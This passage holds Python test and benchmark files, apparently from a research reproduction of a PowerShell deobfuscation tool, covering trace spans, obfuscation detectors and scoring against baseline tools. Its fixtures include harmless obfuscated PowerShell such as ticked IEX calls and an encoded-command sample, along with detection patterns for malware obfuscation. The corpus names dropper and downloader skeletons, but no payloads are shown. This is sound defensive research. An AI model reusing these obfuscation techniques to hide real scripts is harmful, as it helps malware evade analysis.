        assert any("no name" in p for p in problems)
        assert any("precedes" in p for p in problems)

    def test_validate_flags_dangling_parent(self):
        recorder = self._recorded()
        lines = [span_to_otel(s) for s in recorder.spans]
        lines[1]["parentSpanId"] = "0123456789abcdef"
        problems = validate_spans(lines)
        assert any("parentSpanId" in p for p in problems)

    def test_validate_allows_remote_parent_on_trace_root(self):
        # A request that joined a caller's trace via traceparent exports
        # its root with a parent the file cannot contain.
        ctx = TraceContext.new().child()
        recorder = SpanRecorder(context=ctx, clock=FakeClock())
        with recorder.span("request"):
            with recorder.span("execute"):
                pass
        lines = [span_to_otel(s) for s in recorder.spans]
        assert lines[0]["parentSpanId"] == ctx.parent_span_id
        assert validate_spans(lines) == []

    def test_validate_flags_self_parent(self):
        span = TraceSpan(
            name="x", trace_id="ab" * 16, span_id="cd" * 8,
            parent_span_id="cd" * 8, start_unix=0.0, end_unix=1.0,
        )
        problems = validate_spans([span_to_otel(span)])
        assert any("own parent" in p for p in problems)

    def test_export_dicts_round_trips_worker_payloads(self, tmp_path):
        recorder = self._recorded()
        payloads = [s.to_dict() for s in recorder.spans]
        path = str(tmp_path / "spans.jsonl")
        with SpanExporter(path) as exporter:
            assert exporter.export_dicts(payloads) == 2
        assert [s.to_dict() for s in read_spans(path)] == payloads


class TestWaterfall:
    def test_renders_tree_with_status_and_process(self):
        recorder = SpanRecorder(
            clock=FakeClock(), id_factory=make_ids(), process="svc"
        )
        recorder.begin("request")
        recorder.begin("worker")
        recorder.flush_open(status="aborted")
        text = render_waterfall(recorder.spans)
        lines = text.splitlines()
        assert lines[0].startswith(f"trace {recorder.trace_id}")
        assert "request" in lines[1]
        assert "worker" in lines[2]
        assert lines[2].index("worker") > lines[1].index("request")
        assert "[aborted]" in lines[2]
        assert "(svc)" in lines[1]

    def test_orphans_render_at_top_level(self):
        span = TraceSpan(
            name="lost", trace_id="ab" * 16, span_id="cd" * 8,
            parent_span_id="ef" * 8, start_unix=0.0, end_unix=1.0,
        )
        text = render_waterfall([span])
        assert "lost" in text

    def test_summarize_traces(self):
        recorder = SpanRecorder(clock=FakeClock(start=0.0, step=1.0))
        with recorder.span("a"):
            pass
        rows = summarize_traces(recorder.spans)
        assert rows == [(recorder.trace_id, 1, 1.0)]

    def test_waterfall_json_safe(self):
        recorder = SpanRecorder(clock=FakeClock())
        with recorder.span("root", note="hi"):
            pass
        payload = json.dumps([span_to_otel(s) for s in recorder.spans])
        assert "root" in payload
