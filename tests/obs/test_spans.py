"""Unit tests for the span/tracer layer (:mod:`repro.obs.spans`)."""

from repro.obs import Span, Tracer


class FakeClock:
    """Deterministic clock: every read advances by *step*."""

    def __init__(self, step: float = 1.0):
        self.now = 0.0
        self.step = step

    def __call__(self) -> float:
        self.now += self.step
        return self.now


class TestTracer:
    def test_records_span_durations(self):
        tracer = Tracer(clock=FakeClock())
        with tracer.span("token"):
            pass
        with tracer.span("ast", iteration=3):
            pass
        assert [s.name for s in tracer.spans] == ["token", "ast"]
        assert tracer.spans[0].seconds == 1.0  # two reads, step 1
        assert tracer.spans[0].iteration is None
        assert tracer.spans[1].iteration == 3

    def test_disabled_tracer_records_nothing(self):
        tracer = Tracer(enabled=False, clock=FakeClock())
        with tracer.span("token"):
            pass
        assert tracer.spans == []
        assert tracer.phase_totals() == {}

    def test_span_recorded_even_when_body_raises(self):
        tracer = Tracer(clock=FakeClock())
        try:
            with tracer.span("ast"):
                raise RuntimeError("boom")
        except RuntimeError:
            pass
        assert [s.name for s in tracer.spans] == ["ast"]

    def test_phase_totals_sum_repeated_names(self):
        tracer = Tracer(clock=FakeClock())
        for iteration in range(3):
            with tracer.span("ast", iteration=iteration):
                pass
        totals = tracer.phase_totals()
        assert totals == {"ast": 3.0}


class TestSpanSerialization:
    def test_round_trip_with_iteration(self):
        span = Span(name="ast", seconds=0.25, iteration=2)
        assert Span.from_dict(span.to_dict()) == span

    def test_round_trip_without_iteration(self):
        span = Span(name="rename", seconds=0.5)
        data = span.to_dict()
        assert "iteration" not in data
        assert Span.from_dict(data) == span
