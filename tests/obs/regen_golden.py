"""Regenerate the golden schema fixtures after an intentional change.

Usage: ``PYTHONPATH=src python tests/obs/regen_golden.py``

Remember to bump ``STATS_SCHEMA_VERSION`` (repro/obs/stats.py) or
``RECORD_SCHEMA_VERSION`` (repro/batch/records.py) when the shape —
not just the values — changed.
"""

import json
import os
import sys
import tempfile

sys.path.insert(
    0,
    os.path.join(os.path.dirname(__file__), os.pardir, os.pardir, "src"),
)

from test_log import build_golden_log_lines  # noqa: E402
from test_schema_golden import GOLDEN_DIR, GOLDEN_SCRIPT, normalize  # noqa: E402
from test_trace_golden import build_golden_lines  # noqa: E402

from repro import deobfuscate  # noqa: E402
from repro.batch.task import Task, run_one  # noqa: E402


def write(name: str, data: dict) -> None:
    path = os.path.join(GOLDEN_DIR, name)
    with open(path, "w", encoding="utf-8") as handle:
        json.dump(data, handle, indent=2, sort_keys=True)
        handle.write("\n")
    print(f"wrote {path}")


def main() -> None:
    result = deobfuscate(GOLDEN_SCRIPT)
    write("pipeline_stats.json", normalize(result.stats.to_dict()))

    with tempfile.TemporaryDirectory() as tmp:
        sample = os.path.join(tmp, "golden.ps1")
        with open(sample, "w", encoding="utf-8") as handle:
            handle.write(GOLDEN_SCRIPT)
        record = run_one(Task(path=sample))
    record["path"] = "<SAMPLE>"
    write("batch_record.json", normalize(record))

    trace_path = os.path.join(GOLDEN_DIR, "trace_spans.jsonl")
    with open(trace_path, "w", encoding="utf-8") as handle:
        handle.write("\n".join(build_golden_lines()) + "\n")
    print(f"wrote {trace_path}")

    log_path = os.path.join(GOLDEN_DIR, "log_events.jsonl")
    with open(log_path, "w", encoding="utf-8") as handle:
        handle.write("\n".join(build_golden_log_lines()) + "\n")
    print(f"wrote {log_path}")


if __name__ == "__main__":
    main()
