"""Cross-process trace propagation tests.

The acceptance bar for the tracing layer: a traced batch task executed
in a *worker process* must come back with spans that share the parent
process's trace_id and link (via parentSpanId) into the parent's span
tree — and the CLI must be able to export, render, and validate the
result.
"""

import json

from repro.batch.pool import BatchPool
from repro.batch.task import Task
from repro.cli import main
from repro.obs.export import (
    read_raw_lines,
    read_spans,
    span_to_otel,
    validate_spans,
)
from repro.obs.trace import SpanRecorder, TraceContext

SCRIPT = "I`E`X ('wri'+'te-host hi')\n$a = 'mal'+'ware'\n"

FAULTY = "tests.batch.helpers:faulty_worker"
RAISING = "tests.batch.helpers:raising_worker"


def traced_task(path) -> tuple:
    """A task wired the way ``repro batch --trace-out`` wires it."""
    task = Task(path=str(path))
    recorder = SpanRecorder(context=TraceContext.new(), process="batch")
    span = recorder.begin("batch_sample", path=task.path)
    task.trace = recorder.current_context().child().to_dict()
    return task, recorder, span


class TestBatchTracePropagation:
    def test_worker_spans_share_parent_trace_id(self, tmp_path):
        sample = tmp_path / "a.ps1"
        sample.write_text(SCRIPT, encoding="utf-8")
        task, recorder, span = traced_task(sample)

        pool = BatchPool(jobs=1)
        [record] = list(pool.run([task]))
        recorder.end(span)

        assert record["status"] == "ok"
        assert record["trace_id"] == recorder.trace_id
        worker_spans = record["trace_spans"]
        assert {s["trace_id"] for s in worker_spans} == {
            recorder.trace_id
        }
        names = [s["name"] for s in worker_spans]
        assert names[0] == "worker"
        assert "pipeline" in names
        assert {"token", "ast", "multilayer"} <= set(names)
        # The worker root carries the promised id and links back into
        # the parent process's batch_sample span.
        assert worker_spans[0]["span_id"] == task.trace["span_id"]
        assert worker_spans[0]["parent_span_id"] == span.span_id
        assert worker_spans[0]["process"] == "worker"

        # Both sides together form one validated trace.
        from repro.obs.trace import TraceSpan

        lines = [span_to_otel(s) for s in recorder.spans] + [
            span_to_otel(TraceSpan.from_dict(s)) for s in worker_spans
        ]
        assert validate_spans(lines) == []

    def test_untraced_task_record_has_no_trace_keys(self, tmp_path):
        sample = tmp_path / "a.ps1"
        sample.write_text(SCRIPT, encoding="utf-8")
        pool = BatchPool(jobs=1)
        [record] = list(pool.run([Task(path=str(sample))]))
        assert "trace_id" not in record
        assert "trace_spans" not in record

    def test_crashed_worker_yields_synthesized_aborted_span(
        self, tmp_path
    ):
        sample = tmp_path / "crash.ps1"
        sample.write_text("# repro-test-crash\n", encoding="utf-8")
        task, recorder, span = traced_task(sample)
        pool = BatchPool(jobs=1, retries=0, worker=FAULTY)
        [record] = list(pool.run([task]))
        recorder.end(span, status="error")

        assert record["status"] == "error"
        assert record["trace_id"] == recorder.trace_id
        [aborted] = record["trace_spans"]
        assert aborted["status"] == "aborted"
        assert aborted["name"] == "worker"
        assert aborted["span_id"] == task.trace["span_id"]
        assert aborted["parent_span_id"] == span.span_id

    def test_raising_worker_keeps_trace_identity(self, tmp_path):
        sample = tmp_path / "raise.ps1"
        sample.write_text(SCRIPT, encoding="utf-8")
        task, recorder, span = traced_task(sample)
        pool = BatchPool(jobs=1, retries=0, worker=RAISING)
        [record] = list(pool.run([task]))
        recorder.end(span, status="error")

        assert record["status"] == "error"
        assert record["trace_id"] == recorder.trace_id


class TestTraceCli:
    def run_cli(self, argv, capsys):
        code = main(argv)
        captured = capsys.readouterr()
        return code, captured.out, captured.err

    def test_deobfuscate_trace_out_then_render_and_check(
        self, tmp_path, capsys
    ):
        sample = tmp_path / "a.ps1"
        sample.write_text(SCRIPT, encoding="utf-8")
        trace_file = tmp_path / "spans.jsonl"

        code, _, err = self.run_cli(
            ["deobfuscate", str(sample), "--trace-out", str(trace_file)],
            capsys,
        )
        assert code == 0
        assert "trace" in err

        spans = read_spans(str(trace_file))
        assert spans[0].name == "pipeline"
        assert spans[0].process == "cli"
        assert {"token", "ast", "techniques"} <= {s.name for s in spans}

        code, out, _ = self.run_cli(["trace", str(trace_file)], capsys)
        assert code == 0
        assert "pipeline" in out
        assert spans[0].trace_id in out

        code, out, _ = self.run_cli(
            ["trace", str(trace_file), "--check"], capsys
        )
        assert code == 0
        assert "ok:" in out

    def test_batch_trace_out_exports_linked_traces(
        self, tmp_path, capsys
    ):
        for index in range(2):
            (tmp_path / f"s{index}.ps1").write_text(
                SCRIPT, encoding="utf-8"
            )
        trace_file = tmp_path / "batch-spans.jsonl"
        output = tmp_path / "out.jsonl"

        code, _, err = self.run_cli(
            [
                "batch", str(tmp_path), "--jobs", "1",
                "--trace-out", str(trace_file),
                "--output", str(output),
            ],
            capsys,
        )
        assert code == 0

        raw = read_raw_lines(str(trace_file))
        assert validate_spans(raw) == []
        spans = read_spans(str(trace_file))
        trace_ids = {s.trace_id for s in spans}
        assert len(trace_ids) == 2  # one trace per sample
        for trace_id in trace_ids:
            names = {s.name for s in spans if s.trace_id == trace_id}
            assert "batch_sample" in names
            assert "worker" in names
            assert "pipeline" in names

        # JSONL records keep the trace_id but not the raw spans.
        with open(output, encoding="utf-8") as handle:
            records = [json.loads(line) for line in handle]
        samples = [r for r in records if "kind" not in r]
        assert all(r.get("trace_id") in trace_ids for r in samples)
        assert all("trace_spans" not in r for r in samples)

        code, out, _ = self.run_cli(
            ["trace", str(trace_file), "--summary"], capsys
        )
        assert code == 0
        assert len(out.strip().splitlines()) == 2

        some_id = sorted(trace_ids)[0]
        code, out, _ = self.run_cli(
            ["trace", str(trace_file), "--id", some_id[:8]], capsys
        )
        assert code == 0
        assert some_id in out

    def test_check_fails_on_corrupted_parentage(self, tmp_path, capsys):
        sample = tmp_path / "a.ps1"
        sample.write_text(SCRIPT, encoding="utf-8")
        trace_file = tmp_path / "spans.jsonl"
        code, _, _ = self.run_cli(
            ["deobfuscate", str(sample), "--trace-out", str(trace_file)],
            capsys,
        )
        assert code == 0
        lines = []
        with open(trace_file, encoding="utf-8") as handle:
            for line in handle:
                data = json.loads(line)
                lines.append(data)
        # Break a child's parent pointer.
        broken = next(
            line for line in lines if "parentSpanId" in line
        )
        broken["parentSpanId"] = "deadbeefdeadbeef"
        with open(trace_file, "w", encoding="utf-8") as handle:
            for data in lines:
                handle.write(json.dumps(data) + "\n")

        code, _, err = self.run_cli(
            ["trace", str(trace_file), "--check"], capsys
        )
        assert code == 5
        assert "parentSpanId" in err

    def test_trace_on_missing_file_fails(self, tmp_path, capsys):
        code, _, err = self.run_cli(
            ["trace", str(tmp_path / "nope.jsonl")], capsys
        )
        assert code == 1
        assert "error" in err

    def test_trace_on_empty_file_fails(self, tmp_path, capsys):
        empty = tmp_path / "empty.jsonl"
        empty.write_text("", encoding="utf-8")
        code, _, err = self.run_cli(["trace", str(empty)], capsys)
        assert code == 1
        assert "no spans" in err
