"""Tests for obfuscation detection and scoring (Section IV-B2)."""

import random

import pytest

from repro import deobfuscate
from repro.obfuscation.catalog import TECHNIQUES, get_technique
from repro.scoring import detect_techniques, score_script
from repro.scoring.detectors import TECHNIQUE_LEVELS
from repro.scoring.score import score_reduction

CLEAN = "Write-Host hello"

# technique name -> detector name (numeric encodings share one detector).
_DETECTOR_FOR = {
    "encode_binary": "encode_numeric",
    "encode_octal": "encode_numeric",
    "encode_hex": "encode_numeric",
    "encode_ascii": "encode_ascii",
}


class TestDetectors:
    def test_clean_script_scores_zero(self):
        report = score_script(CLEAN)
        assert report.score == 0
        assert not report.techniques

    # Payloads chosen so each technique has something to transform.
    _PAYLOADS = {
        "alias": "Invoke-Expression 'hello'; Get-ChildItem",
        "random_name": "$secret = 'hello'; write-host $secret",
    }

    @pytest.mark.parametrize("name", sorted(TECHNIQUES))
    def test_applied_technique_is_detected(self, name):
        technique = get_technique(name)
        payload = self._PAYLOADS.get(name, "write-host hello world")
        obfuscated = technique.apply_to_script(payload, random.Random(5))
        assert obfuscated != payload, f"{name} was a no-op"
        detected = detect_techniques(obfuscated)
        expected = _DETECTOR_FOR.get(name, name)
        assert expected in detected, (
            f"{name}: {obfuscated[:90]!r} -> {sorted(detected)}"
        )

    def test_ticking(self):
        assert "ticking" in detect_techniques("nE`w-oB`jEcT x")

    def test_alias(self):
        assert "alias" in detect_techniques("iex 'x'")

    def test_concat(self):
        assert "concat" in detect_techniques("$x = 'a'+'b'")

    def test_plain_plus_on_numbers_not_concat(self):
        assert "concat" not in detect_techniques("$x = 1 + 2")

    def test_reorder(self):
        assert "reorder" in detect_techniques('"{1}{0}" -f \'b\',\'a\'')

    def test_ordered_format_not_reorder(self):
        assert "reorder" not in detect_techniques('"{0}!" -f \'a\'')

    def test_bxor(self):
        assert "bxor" in detect_techniques("$x -bxor 0x4B")

    def test_base64(self):
        assert "base64" in detect_techniques(
            "[Convert]::FromBase64String('aGk=')"
        )

    def test_encoded_command_is_base64(self):
        assert "base64" in detect_techniques(
            "powershell -enc aABlAGwAbABvACAAdwBvAHIAbABkAA=="
        )

    def test_securestring(self):
        assert "securestring" in detect_techniques(
            "ConvertTo-SecureString $x -Key (1..16)"
        )

    def test_deflate(self):
        assert "deflate" in detect_techniques(
            "New-Object IO.Compression.DeflateStream($m, $mode)"
        )

    def test_reverse(self):
        assert "reverse" in detect_techniques("'cba'[-1..-3] -join ''")


class TestScore:
    def test_levels_weighting(self):
        report = score_script("iex ('a'+'b')")
        # alias (L1) + concat (L2) = 3.
        assert report.score >= 3
        assert report.has_level(1)
        assert report.has_level(2)

    def test_each_technique_counted_once(self):
        script = "$a = 'a'+'b'; $c = 'd'+'e'; $f = 'g'+'h'"
        report = score_script(script)
        assert "concat" in report.techniques
        counted = [t for t in report.techniques if t == "concat"]
        assert len(counted) == 1

    def test_l3_scores_three(self):
        report = score_script("[Convert]::FromBase64String('aGk=')")
        assert TECHNIQUE_LEVELS["base64"] == 3
        assert report.score >= 3


class TestScoreReduction:
    def test_deobfuscation_reduces_score(self):
        obfuscated = "I`E`X ('wri'+'te-host hi')"
        result = deobfuscate(obfuscated)
        reduction = score_reduction(obfuscated, result.script)
        assert reduction > 0.5

    def test_clean_script_reduction_is_zero(self):
        assert score_reduction(CLEAN, CLEAN) == 0.0

    def test_reduction_never_negative(self):
        assert score_reduction("iex 'x'", "iex 'x'; 'a'+'b'") == 0.0
