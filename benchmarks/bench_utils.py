"""Shared helpers for the paper-reproduction benchmarks.

Each ``test_*`` bench regenerates one table or figure of the paper,
prints it, and appends it to ``benchmarks/results/`` so the numbers
survive the pytest run.
"""

import os
import random
from dataclasses import dataclass
from typing import Callable, Dict, List, Optional

from repro import Deobfuscator
from repro.baselines import LiEtAl, PSDecode, PowerDecode, PowerDrive
from repro.baselines.common import BaselineResult

RESULTS_DIR = os.path.join(os.path.dirname(__file__), "results")


def write_result(name: str, text: str) -> None:
    os.makedirs(RESULTS_DIR, exist_ok=True)
    path = os.path.join(RESULTS_DIR, name + ".txt")
    with open(path, "w", encoding="utf-8") as handle:
        handle.write(text)
    print(text)


@dataclass
class ToolAdapter:
    """Uniform interface over Invoke-Deobfuscation and the baselines."""

    name: str
    run: Callable[[str], object]

    def final_script(self, script: str) -> str:
        result = self.run(script)
        return result.script


def our_tool_adapter(**kwargs) -> ToolAdapter:
    tool = Deobfuscator(**kwargs)
    return ToolAdapter(name="Invoke-Deobfuscation", run=tool.deobfuscate)


def baseline_adapters() -> List[ToolAdapter]:
    return [
        ToolAdapter(name="PSDecode", run=PSDecode().deobfuscate),
        ToolAdapter(name="PowerDrive", run=PowerDrive().deobfuscate),
        ToolAdapter(name="PowerDecode", run=PowerDecode().deobfuscate),
        ToolAdapter(name="Li et al.", run=LiEtAl().deobfuscate),
    ]


def all_tools() -> List[ToolAdapter]:
    return baseline_adapters() + [our_tool_adapter()]


def render_table(
    title: str,
    headers: List[str],
    rows: List[List[str]],
) -> str:
    widths = [
        max(len(str(headers[i])), *(len(str(r[i])) for r in rows))
        if rows
        else len(str(headers[i]))
        for i in range(len(headers))
    ]
    lines = [title, ""]
    header_line = " | ".join(
        str(h).ljust(widths[i]) for i, h in enumerate(headers)
    )
    lines.append(header_line)
    lines.append("-+-".join("-" * w for w in widths))
    for row in rows:
        lines.append(
            " | ".join(str(c).ljust(widths[i]) for i, c in enumerate(row))
        )
    lines.append("")
    return "\n".join(lines)


def fig5_corpus(count: int = 100, seed: int = 2022):
    """The Fig 5 / Fig 6 / Table IV corpus, sized like the paper's:
    "100 obfuscated PowerShell scripts whose sizes are between 97 bytes
    and 2 KB" (Section IV-C2).

    Over half the samples carry sandbox-evasion guards, matching how
    pervasive anti-analysis is in wild droppers — the feature that
    separates static recovery from the execution-based baselines.
    """
    from repro.dataset import generate_corpus

    raw = generate_corpus(count * 5, seed=seed, guard_fraction=0.6)
    sized = [s for s in raw if 97 <= len(s.script) <= 2048]
    return sized[:count]


def layered_output(result) -> str:
    """Everything a tool surfaced: final script plus intermediate layers.

    Analysts inspect every layer a deobfuscator emits, so key-information
    counts credit information visible in any of them.
    """
    pieces = [result.script]
    pieces.extend(getattr(result, "layers", []) or [])
    return "\n".join(pieces)
