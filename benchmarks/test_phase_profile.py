"""E4 companion — per-phase timing profile over the Fig 6 corpus.

The paper reports only end-to-end deobfuscation time (Fig 6).  With the
PR 2 span instrumentation we can decompose it: per-phase wall-clock
distributions (p50/p95) over the same corpus slice, answering *where*
the 1.04 s average goes.  The second test pins the acceptance criterion
that the instrumentation itself is nearly free: spans on vs spans off
differ by <=5% on min-of-rounds corpus totals.
"""

import statistics
import time

import pytest

from benchmarks.bench_utils import fig5_corpus, render_table, write_result
from benchmarks.trajectory import stage_metrics
from repro import Deobfuscator
from repro.batch.summary import PHASE_METRICS, summarize
from repro.obs import PHASES

# A slice of the E4 corpus: large enough for stable percentiles, small
# enough that the spans-on/spans-off comparison runs several rounds.
CORPUS_SIZE = 30
OVERHEAD_MIN_ROUNDS = 5
OVERHEAD_MAX_ROUNDS = 10
OVERHEAD_BUDGET = 1.05  # acceptance: spans cost <=5%
OVERHEAD_SLACK_SECONDS = 0.005  # absolute floor so tiny totals don't flake


@pytest.fixture(scope="module")
def corpus():
    return fig5_corpus(count=CORPUS_SIZE, seed=2022)


def run_corpus(corpus, collect_spans):
    """Deobfuscate every sample; return (results, corpus wall seconds)."""
    tool = Deobfuscator(collect_spans=collect_spans)
    start = time.perf_counter()
    results = [tool.deobfuscate(sample.script) for sample in corpus]
    return results, time.perf_counter() - start


def test_phase_profile(benchmark, corpus):
    results, _ = run_corpus(corpus, collect_spans=True)

    tool = Deobfuscator()

    def run_three():
        for sample in corpus[:3]:
            tool.deobfuscate(sample.script)

    benchmark.pedantic(run_three, iterations=1, rounds=3)

    records = [
        {
            "status": "ok",
            "elapsed_seconds": result.elapsed_seconds,
            "stats": result.stats.to_dict(),
        }
        for result in results
    ]
    summary = summarize(records)
    distributions = summary["phase_seconds"]

    rows = []
    for phase in PHASES:
        dist = distributions.get(phase)
        if dist is None:
            continue
        rows.append(
            [phase]
            + [f"{dist[metric] * 1000:.2f}" for metric in PHASE_METRICS]
        )
    text = render_table(
        f"Phase profile — per-phase wall clock over {len(corpus)} "
        "E4 samples (milliseconds)",
        ["Phase"] + [f"{metric} (ms)" for metric in PHASE_METRICS],
        rows,
    )
    write_result("phase_profile", text)
    stage_metrics("phase_profile", {
        phase: {
            metric: distributions[phase][metric] * 1000
            for metric in PHASE_METRICS
        }
        for phase in PHASES if phase in distributions
    })

    # Every pipeline phase showed up in at least one record, and the
    # phase decomposition accounts for most of the end-to-end latency.
    assert set(PHASES) <= set(distributions)
    phase_total = sum(distributions[p]["total"] for p in distributions)
    elapsed_total = sum(r.elapsed_seconds for r in results)
    assert phase_total <= elapsed_total
    assert phase_total >= 0.5 * elapsed_total


def test_span_overhead_within_budget(corpus):
    # Warm caches (imports, regex compilation) before timing anything.
    run_corpus(corpus[:5], collect_spans=True)

    # Min-of-rounds is the standard noise-robust estimator for "true"
    # cost: scheduler hiccups only ever add time.  Noise still moves the
    # per-round totals by a few percent, so after the minimum rounds we
    # keep sampling (up to a cap) until the estimate clears the budget.
    on_totals, off_totals = [], []
    for round_index in range(OVERHEAD_MAX_ROUNDS):
        _, seconds_off = run_corpus(corpus, collect_spans=False)
        _, seconds_on = run_corpus(corpus, collect_spans=True)
        off_totals.append(seconds_off)
        on_totals.append(seconds_on)
        if round_index + 1 < OVERHEAD_MIN_ROUNDS:
            continue
        best_on, best_off = min(on_totals), min(off_totals)
        if best_on <= best_off * OVERHEAD_BUDGET + OVERHEAD_SLACK_SECONDS:
            break

    best_on, best_off = min(on_totals), min(off_totals)
    budget = best_off * OVERHEAD_BUDGET + OVERHEAD_SLACK_SECONDS
    assert best_on <= budget, (
        f"span instrumentation overhead too high: on={best_on:.4f}s "
        f"off={best_off:.4f}s (>{OVERHEAD_BUDGET - 1:.0%} + slack); "
        f"rounds on={on_totals} off={off_totals}"
    )

    write_result(
        "phase_profile_overhead",
        "Span instrumentation overhead (corpus totals, min of "
        f"{len(on_totals)} rounds)\n\n"
        f"spans off : {best_off * 1000:.2f} ms\n"
        f"spans on  : {best_on * 1000:.2f} ms\n"
        f"overhead  : {(best_on / best_off - 1) * 100:+.2f}% "
        f"(budget {OVERHEAD_BUDGET - 1:.0%})\n"
        f"mean off  : {statistics.mean(off_totals) * 1000:.2f} ms\n"
        f"mean on   : {statistics.mean(on_totals) * 1000:.2f} ms\n",
    )
