"""E4 — Fig 6: deobfuscation time of different tools.

Paper: Invoke-Deobfuscation averages 1.04 s with a ≤4 s maximum — the
fastest and most stable — while other tools fluctuate heavily (they
execute commands unrelated to deobfuscation: sleeps, network waits...).
Our substrate is a simulator, so absolute numbers are smaller, but the
*shape* must hold: ours has the lowest mean and a tight max/mean ratio;
execution-based baselines show large spreads on sleeper samples.
"""

import statistics

import pytest

from benchmarks.bench_utils import (
    all_tools,
    fig5_corpus,
    our_tool_adapter,
    render_table,
    write_result,
)
from benchmarks.trajectory import stage_metrics


@pytest.fixture(scope="module")
def corpus():
    return fig5_corpus(count=100, seed=2022)


@pytest.fixture(scope="module")
def timings(corpus):
    measured = {}
    for tool in all_tools():
        times = []
        for sample in corpus:
            result = tool.run(sample.script)
            times.append(result.elapsed_seconds)
        measured[tool.name] = times
    return measured


def test_fig6_time(benchmark, corpus, timings):
    ours = our_tool_adapter()

    def run_three():
        for sample in corpus[:3]:
            ours.run(sample.script)

    benchmark.pedantic(run_three, iterations=1, rounds=3)

    rows = []
    for name, times in timings.items():
        mean = statistics.mean(times)
        rows.append(
            [
                name,
                f"{mean * 1000:.1f}",
                f"{max(times) * 1000:.1f}",
                f"{statistics.pstdev(times) * 1000:.1f}",
                f"{max(times) / mean:.1f}x",
            ]
        )
    text = render_table(
        f"Fig 6 — deobfuscation time over {len(corpus)} samples "
        "(milliseconds; paper: ours avg 1.04s, max <4s, others "
        "fluctuate heavily)",
        ["Tool", "mean (ms)", "max (ms)", "stdev (ms)", "max/mean"],
        rows,
    )
    write_result("fig6_time", text)
    stage_metrics("fig6_time", {
        tool: {
            "mean_ms": statistics.mean(times) * 1000,
            "max_ms": max(times) * 1000,
            "stdev_ms": statistics.pstdev(times) * 1000,
        }
        for tool, times in timings.items()
    })

    our_times = timings["Invoke-Deobfuscation"]
    our_mean = statistics.mean(our_times)
    # Shape: ours is stable (no sample takes > 20x the mean) ...
    assert max(our_times) < 20 * our_mean
    # ... and at least one execution-based baseline fluctuates worse
    # (sleeps and full execution on sleeper samples).
    baseline_ratios = [
        max(times) / statistics.mean(times)
        for name, times in timings.items()
        if name in ("PSDecode", "PowerDecode", "PowerDrive")
    ]
    assert max(baseline_ratios) > max(our_times) / our_mean
