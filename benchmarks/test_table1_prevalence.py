"""E1 — Table I: proportion of obfuscation at different levels.

Paper: of 1,127,349 wild samples, L1 98.07%, L2 97.84%, L3 96.08% (levels
overlap, so columns exceed 100%).  We regenerate the measurement over the
seeded synthetic wild corpus; the *shape* to reproduce is "all three
levels are pervasive and overlapping".
"""

import pytest

from benchmarks.bench_utils import render_table, write_result
from repro.dataset import generate_corpus
from repro.scoring import score_script

CORPUS_SIZE = 300


@pytest.fixture(scope="module")
def corpus():
    return generate_corpus(CORPUS_SIZE, seed=1)


def _measure(corpus):
    counts = {1: 0, 2: 0, 3: 0}
    for sample in corpus:
        report = score_script(sample.script)
        for level in (1, 2, 3):
            if report.has_level(level):
                counts[level] += 1
    return counts


def test_table1_prevalence(benchmark, corpus):
    counts = benchmark.pedantic(
        _measure, args=(corpus,), iterations=1, rounds=1
    )
    total = len(corpus)
    rows = [
        [
            f"L{level}",
            counts[level],
            f"{100.0 * counts[level] / total:.2f}%",
            {1: "98.07%", 2: "97.84%", 3: "96.08%"}[level],
        ]
        for level in (1, 2, 3)
    ]
    text = render_table(
        "Table I — proportion of obfuscation at different levels "
        f"(n={total})",
        ["Level", "#Samples", "Proportion (measured)", "Paper"],
        rows,
    )
    write_result("table1_prevalence", text)
    # Shape assertions: every level pervasive, overlapping totals.
    for level in (1, 2, 3):
        assert counts[level] / total > 0.30
    assert sum(counts.values()) > total  # overlap, like the paper
