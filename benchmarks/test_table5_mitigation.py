"""E7 — Table V: mitigation of obfuscation on high-score scripts.

Paper (3,346 highest-scoring scripts): Invoke-Deobfuscation produces the
most valid (changed) results and mitigates L1 by 91.5%, L2 by 64.7%, L3
by 27%, reducing the average obfuscation score by 46%; the best baseline
manages 24%.

Mitigation of level *k* = the proportion of detected-technique instances
at that level that disappear from a tool's output, over its valid
results.
"""

import pytest

from benchmarks.bench_utils import (
    all_tools,
    fig5_corpus,
    render_table,
    write_result,
)
from repro.scoring import score_script
from repro.scoring.detectors import TECHNIQUE_LEVELS


@pytest.fixture(scope="module")
def scored_corpus():
    # The paper's Table V slice is blob-heavy: "Base64 encoding is the
    # most common obfuscation at the L3 level in these scripts, which
    # accounts for 65%" and "base64 strings in most scripts often
    # represent binary files".  Weight the skeleton mix accordingly.
    from repro.dataset import generate_corpus

    corpus = generate_corpus(
        120,
        seed=77,
        guard_fraction=0.4,
        skeletons=(
            ["blob_dropper"] * 5
            + ["downloader", "dropper", "two_stage", "string_builder",
               "encoded_child", "sleeper", "ip_beacon"]
        ),
    )
    scored = [
        (sample, score_script(sample.script)) for sample in corpus
    ]
    scored = [x for x in scored if x[1].score > 0]
    # The paper selects the scripts with the highest obfuscation score.
    scored.sort(key=lambda x: -x[1].score)
    return scored[:80]


def _per_level_instances(report):
    counts = {1: 0, 2: 0, 3: 0}
    for name in report.techniques:
        counts[TECHNIQUE_LEVELS[name]] += 1
    return counts


def test_table5_mitigation(benchmark, scored_corpus):
    tools = all_tools()
    rows = []
    summary = {}
    for tool in tools:
        valid = 0
        removed = {1: 0, 2: 0, 3: 0}
        present = {1: 0, 2: 0, 3: 0}
        reductions = []
        for sample, before_report in scored_corpus:
            result = tool.run(sample.script)
            if not result.changed:
                continue
            valid += 1
            after_report = score_script(result.script)
            before_counts = _per_level_instances(before_report)
            survivors = {
                name
                for name in after_report.techniques
                if name in before_report.techniques
            }
            after_counts = {1: 0, 2: 0, 3: 0}
            for name in survivors:
                after_counts[TECHNIQUE_LEVELS[name]] += 1
            for level in (1, 2, 3):
                present[level] += before_counts[level]
                removed[level] += (
                    before_counts[level] - after_counts[level]
                )
            if before_report.score:
                reductions.append(
                    max(0.0, before_report.score - after_report.score)
                    / before_report.score
                )
        mitigation = {
            level: (removed[level] / present[level] if present[level] else 0.0)
            for level in (1, 2, 3)
        }
        average_reduction = (
            sum(reductions) / len(reductions) if reductions else 0.0
        )
        summary[tool.name] = (valid, mitigation, average_reduction)
        rows.append(
            [
                tool.name,
                valid,
                f"{100 * mitigation[1]:.1f}%",
                f"{100 * mitigation[2]:.1f}%",
                f"{100 * mitigation[3]:.1f}%",
                f"{100 * average_reduction:.1f}%",
            ]
        )

    ours_adapter = [t for t in tools if t.name == "Invoke-Deobfuscation"][0]

    def run_one():
        return ours_adapter.final_script(scored_corpus[0][0].script)

    benchmark.pedantic(run_one, iterations=1, rounds=3)

    text = render_table(
        f"Table V — obfuscation mitigation over the {len(scored_corpus)} "
